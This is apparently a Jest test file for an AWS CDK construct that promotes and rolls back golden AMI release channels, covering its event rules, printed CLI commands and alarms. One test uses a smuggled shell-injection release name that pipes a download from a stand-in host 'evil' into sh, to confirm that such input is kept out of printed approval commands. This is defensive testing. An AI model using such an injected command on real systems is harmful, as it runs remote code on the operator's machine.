import { Duration } from 'aws-cdk-lib';
import { aGuardedChannel } from './a-guard';
import { alarmsOf, CHANNELS, channelsIn, configurationIn, ofType, REGION, rulesOf, synthesized, withChannels } from './a-pipeline-with-channels';
import { ChannelPromotion } from '../../../src/pipeline/channel-promotion';
import { readRequest } from '../../../src/runtime/channels/channel-request';
import { ShareTarget } from '../../../src/sharing/share-target';
import { matches, messageFor } from '../event-pattern';

const resources = withChannels();
const idOf = (pattern: RegExp, type: string) => Object.keys(resources).find(id => pattern.test(id) && resources[id].Type === type)!;
const OPERATE = idOf(/Operate/, 'AWS::Lambda::Alias');
/** As Lambda tells a function how it was called. */
const invoked = (alias: string) => `arn:aws:lambda:${REGION}:111111111111:function:channels:${alias}`;

test('the function knows where the images are, what they are made of, and who comes after whom', () => {
  const organization = 'arn:aws:organizations::111111111111:organization/o-a1b2c3d4e5';
  const { tableName, ...known } = configurationIn(withChannels({ sharedWith: [ShareTarget.organization(organization), ShareTarget.account('222222222222')] }));
  expect(tableName).toMatch(/^BaseChannelsRecord/);
  expect(known).toEqual({
    imageName: 'base',
    parameterPrefix: '/golden',
    lines: [
      { architecture: 'x86_64', recipeArn: 'arn:aws:imagebuilder:eu-central-1:111111111111:image-recipe/base-x86-64/1.0.7' },
      { architecture: 'arm64', recipeArn: 'arn:aws:imagebuilder:eu-central-1:111111111111:image-recipe/base-arm64/1.0.7' },
    ],
    regions: [REGION, 'us-east-1'],
    sharedWith: ['222222222222', organization],
    keepNewest: 3,
    channels: [
      { name: 'canary', source: 'candidate', gate: 'AUTOMATIC' },
      { name: 'stable', source: 'canary', gate: 'AUTOMATIC' },
      { name: 'frozen', source: 'stable', gate: 'APPROVAL' },
    ],
  });
  expect(configurationIn(aGuardedChannel()).channels).toEqual([{ name: 'stable', source: 'candidate', gate: 'AUTOMATIC', guards: ['errors'] }]);
});

test('the record outlives the stack, unless its creation fails, and can be had as it was at any time', () => {
  const [id] = Object.entries(resources).find(([, { Type }]) => Type === 'AWS::DynamoDB::Table')!;
  expect(resources[id]).toMatchObject({
    DeletionPolicy: 'RetainExceptOnCreate',
    Properties: { BillingMode: 'PAY_PER_REQUEST', PointInTimeRecoverySpecification: { PointInTimeRecoveryEnabled: true } },
  });
});

test('the aliases follow what is deployed: a recipe changes without the CDK seeing it', () => {
  const aliases = ofType<{ Name: string; FunctionVersion: string }>(resources, 'AWS::Lambda::Alias');
  expect(aliases.map(({ Name, FunctionVersion }) => [Name, FunctionVersion])).toEqual([['operate', '$LATEST'], ['approve', '$LATEST']]);
});

test('without a channel that asks for an approval there is nobody to approve', () => {
  const aliases = ofType<{ Name: string }>(withChannels({ channels: [CHANNELS[0]] }), 'AWS::Lambda::Alias');
  expect(aliases.map(({ Name }) => Name)).toEqual(['operate']);
});

const imageEvent = (image: string, status = 'AVAILABLE') => ({
  'source': 'aws.imagebuilder',
  'detail-type': 'EC2 Image Builder Image State Change',
  'resources': [`arn:aws:imagebuilder:${REGION}:111111111111:image/${image}/1.0.7/1`],
  'detail': { 'previous-state': { status: 'TESTING' }, 'state': { status } },
});
const reconciling = rulesOf(resources).filter(({ Targets }) => Targets![0].Arn === OPERATE);

test.each([
  ['an image of the pipeline that passed', imageEvent('base-arm64'), true],
  ['an image of another', imageEvent('base-web-arm64'), false],
  ['an image that failed', imageEvent('base-arm64', 'FAILED'), false],
])('the function hears of %s: %#', (_title, event, isHeard) => {
  expect(reconciling.some(({ EventPattern }) => EventPattern && matches(EventPattern, event))).toBe(isHeard);
});

const written = (name: string, operation = 'Update') => ({ 'source': 'aws.ssm', 'detail-type': 'Parameter Store Change', 'detail': { name, operation, type: 'String' } });
const failedWrite = (name: string) =>
  ({ ...written(name), detail: { exception: 'Unable to Describe Resource', dataType: 'aws:ec2:image', name, type: 'String', operation: 'Update' } });

test.each([
  ['a parameter of a channel that was written', written('/golden/base/arm64/stable'), true],
  ['one that was deleted', written('/golden/base/x86_64/canary', 'Delete'), true],
  ['one that was labelled', written('/golden/base/arm64/stable', 'LabelParameterVersion'), false],
  ['what Image Builder writes', written('/golden/base/arm64/candidate'), false],
  ['the parameter of another image', written('/golden/base-web/arm64/stable'), false],
  ['a write that failed the check of the image, and changed nothing', failedWrite('/golden/base/arm64/stable'), false],
])('the function hears of %s: %#', (_title, event, isHeard) => {
  expect(reconciling.filter(({ EventPattern }) => EventPattern && matches(EventPattern, event))).toHaveLength(isHeard ? 1 : 0);
});

test('what it hears, and a schedule each day, are questions that it takes from the alias operate', () => {
  expect(reconciling.map(({ ScheduleExpression }) => ScheduleExpression).filter(Boolean)).toEqual(['rate(1 day)']);
  expect(reconciling.every(({ Targets: [target] = [] }) => target.Input === undefined && target.InputTransformer === undefined)).toBe(true);
  const scheduled = { 'source': 'aws.events', 'detail-type': 'Scheduled Event' };
  for (const event of [imageEvent('base-arm64'), written('/golden/base/arm64/stable'), scheduled]) {
    expect(readRequest(event, invoked('operate'))).toEqual({ group: 'operate', payload: { verb: 'reconcile' } });
  }
});

test('the command that takes a channel back is printed, and says what the function takes', () => {
  const commands = Object.values(synthesized(stack => channelsIn(stack)).Outputs ?? {}).map(({ Value }) => Value);
  expect(commands).toHaveLength(CHANNELS.length);
  const [, region, alias, payload] = /--region (\S+) --function-name (\S+) .* --payload '(.*)' \/dev\/stdout$/.exec(commands[1])!;
  expect([region, alias]).toEqual([REGION, OPERATE]);
  expect(readRequest(JSON.parse(payload), invoked('operate')).payload).toEqual({ verb: 'rollback', channel: 'stable' });
});

test('the command waits for as long as the function may take: the command line would ask a second time', () => {
  const [{ Timeout }] = ofType<{ Timeout: number }>(resources, 'AWS::Lambda::Function');
  const [{ Value: command }] = Object.values(synthesized(stack => channelsIn(stack)).Outputs!);
  expect(Number(/ --cli-read-timeout (\d+) /.exec(command)![1])).toBeGreaterThan(Timeout);
});

const moved = (channel: string, verb: string, release = '1.0.7-1') =>
  ({ 'source': 'golden-ami', 'detail-type': 'Channel Moved', 'detail': { image: 'base', channel, verb, release } });
const toldOf = (event: object) => rulesOf(resources)
  .filter(({ EventPattern, Targets = [] }) => EventPattern && /^Topic/.test(Targets[0].Arn) && matches(EventPattern, event))
  .map(({ Targets }) => messageFor(Targets![0], event));

test('people are told of each move in a sentence', () => {
  expect(toldOf(moved('frozen', 'rollback'))).toEqual(['frozen of base has 1.0.7-1 now, by rollback.']);
});

test('people are told which release waits for them, with the command that approves it', () => {
  const approval = toldOf(moved('stable', 'promote')).find(text => /waits/.test(text))!;
  const payload = JSON.parse(/--payload '(.*)'/.exec(approval)![1]) as unknown;
  expect(readRequest(payload, invoked('approve'))).toEqual({ group: 'approve', payload: { verb: 'promote', channel: 'frozen', release: '1.0.7-1' } });
  expect(approval).toMatch(/--function-name BaseChannelsApprove/);
});

const approvalsOf = (release: string) => toldOf(moved('stable', 'promote', release)).filter(text => /waits/.test(text));

test('no release that somebody made up ends the text in the command, which its reader runs in a shell', () => {
  expect(approvalsOf('1.0.7-1+1.0.7-2')).toHaveLength(1);
  expect(approvalsOf("1.0.7-1'; curl evil | sh; '")).toEqual([]);
});

test('nor where the candidate is what is approved', () => {
  const rules = rulesOf(withChannels({ channels: [{ name: 'frozen', promotion: ChannelPromotion.approval() }] }));
  const released = (release: string) => ({ 'source': 'golden-ami', 'detail-type': 'Release Available', 'detail': { image: 'base', release } });
  const isHeard = (event: object) => rules.some(({ EventPattern }) => EventPattern && matches(EventPattern, event));
  expect([isHeard(released('1.0.7-1')), isHeard(released("'"))]).toEqual([true, false]);
});

test('each channel rings when it is blocked, held, written by others, or stale, and the machine and the function when they fail', () => {
  const alarms = alarmsOf(resources);
  const ofChannel = (name: string) => alarms
    .filter(({ Dimensions = [] }) => Dimensions.some(({ Value }) => Value === name)).map(({ MetricName }) => MetricName);
  for (const { name } of CHANNELS) expect(ofChannel(name)).toEqual(['Blocked', 'ForeignWrite', 'Held', 'ChannelAgeHours']);
  expect(alarms.slice(-2).map(({ MetricName }) => MetricName)).toEqual(['ExecutionsFailed', 'AsyncEventsDropped']);
});

test('that the function always fails is seen from outside of it, by the name that all of its aliases share', () => {
  const alarm = alarmsOf(withChannels({ channels: [{ name: 'frozen', promotion: ChannelPromotion.manual() }] })).at(-1);
  expect(alarm).toMatchObject({
    Namespace: 'AWS/Lambda',
    MetricName: 'AsyncEventsDropped',
    Dimensions: [{ Name: 'FunctionName', Value: idOf(/ChannelsFunction/, 'AWS::Lambda::Function') }],
    Statistic: 'Sum',
    Period: 3600,
    Threshold: 1,
    TreatMissingData: 'notBreaching',
  });
});

test('that a channel is held is over a minute after the resume: what is reported once stays until it is reported anew', () => {
  const held = alarmsOf(resources).filter(({ MetricName }) => MetricName === 'Held');
  expect(held.map(({ Period, TreatMissingData }) => [Period, TreatMissingData])).toEqual(CHANNELS.map(() => [60, 'ignore']));
});

test('a channel is stale when the image is, and the bake time more; one that people move never is', () => {
  const stale = (channels = CHANNELS, staleAfter: Duration | undefined = Duration.days(14)) => alarmsOf(withChannels({ channels, staleAfter }))
    .filter(({ MetricName }) => MetricName === 'ChannelAgeHours').map(({ Threshold }) => Threshold / 24);
  expect(stale()).toEqual([14, 15, 14]);
  expect(stale([{ name: 'frozen', promotion: ChannelPromotion.manual() }])).toEqual([]);
});

test('every alarm does what the pipeline says, and people hear of it', () => {
  const action = { bind: () => ({ alarmActionArn: 'arn:pager' }) };
  const paged = withChannels({ alarmActions: [action] });
  for (const alarm of alarmsOf(paged)) expect(alarm.AlarmActions).toEqual(['arn:pager']);
  for (const { id } of alarmsOf(paged)) {
    const event = { 'source': 'aws.cloudwatch', 'detail-type': 'CloudWatch Alarm State Change', 'resources': [`${id}.Arn`], 'detail': { state: { value: 'ALARM' } } };
    expect(rulesOf(paged).filter(({ EventPattern }) => EventPattern && matches(EventPattern, event))).toHaveLength(1);
  }
});
